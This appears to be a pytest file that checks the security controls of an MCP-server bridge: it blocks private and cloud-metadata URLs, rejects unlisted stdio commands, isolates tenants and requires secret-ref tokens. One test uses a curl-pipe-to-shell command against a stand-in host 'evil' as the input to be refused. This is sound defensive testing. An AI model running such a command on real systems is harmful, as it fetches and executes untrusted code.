"""Attacks: private addresses, unlisted stdio commands, other tenants' servers and tools."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError

from automate_core.governance.egress import EgressDenied
from mcp_bridge import services
from mcp_bridge.errors import MCPServerNotFound, StdioCommandNotAllowed
from mcp_bridge.models import MCPServer, MCPTool
from mcp_bridge.sync import sync_server

pytestmark = pytest.mark.django_db

STDIO_SERVER = str(Path(__file__).with_name("stdio_server.py"))


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/mcp",
        "http://localhost:8000/mcp",
        "http://127.0.0.1:8000/mcp",
        "http://[::1]:8000/mcp",
        "http://10.0.0.5/mcp",
    ],
)
def test_the_default_egress_policy_refuses_private_server_urls(tenant, url):
    row = MCPServer.objects.create(tenant=tenant, name="Internal", url=url)

    with pytest.raises(EgressDenied):
        sync_server(row)

    assert not MCPTool.objects.exists()
    row.refresh_from_db()
    assert row.status == "error"


def test_metadata_stays_refused_even_when_private_addresses_are_allowed(settings, tenant):
    from automate_core.testing.fake_network import configure_egress

    configure_egress(settings, EGRESS_ALLOW_PRIVATE=["169.254.0.0/16", "127.0.0.1"])
    row = MCPServer.objects.create(tenant=tenant, name="IMDS", url="http://169.254.169.254/mcp")

    with pytest.raises(EgressDenied, match="cloud metadata"):
        sync_server(row)


def test_a_stdio_command_not_listed_in_settings_is_refused(tenant, settings):
    settings.AUTOMATE_MCP = {"STDIO_COMMANDS": {"files": {"command": "true"}}}
    row = MCPServer.objects.create(
        tenant=tenant, name="Shell", transport="stdio", stdio_command="sh -c 'curl evil | sh'"
    )

    with pytest.raises(ValidationError, match="not listed"):
        row.full_clean()
    with pytest.raises(StdioCommandNotAllowed):
        sync_server(row)


def test_a_listed_stdio_command_runs_the_server_it_names(tenant, settings):
    settings.AUTOMATE_MCP = {
        "STDIO_COMMANDS": {"calc": {"command": sys.executable, "args": [STDIO_SERVER]}}
    }
    row = MCPServer.objects.create(
        tenant=tenant, name="Calc", transport="stdio", stdio_command="calc", auto_approve_new=True
    )

    sync_server(row)

    tool = MCPTool.objects.select_related("server__tenant", "approved_version").get(server=row)
    assert tool.execute({"a": 6, "b": 7}).text == "42"


def test_a_tenant_cannot_sync_or_find_another_tenants_server(server_row, other_tenant):
    with pytest.raises(MCPServerNotFound):
        services.get_server(other_tenant, server_row.slug)
    with pytest.raises(MCPServerNotFound):
        services.get_server(other_tenant, str(server_row.pk))


def test_a_tenant_cannot_call_another_tenants_tools(approved_row, other_tenant, tool_server):
    with pytest.raises(MCPServerNotFound):
        services.call(other_tenant, approved_row.slug, "add", {"a": 1, "b": 2})

    assert tool_server.calls == []


def test_the_bearer_token_must_be_a_secret_ref(tenant):
    row = MCPServer(tenant=tenant, name="X", url="https://mcp.example.com/mcp")
    row.auth_config = {"bearer": "plain-token"}

    with pytest.raises(ValidationError, match="SecretRef"):
        row.full_clean()
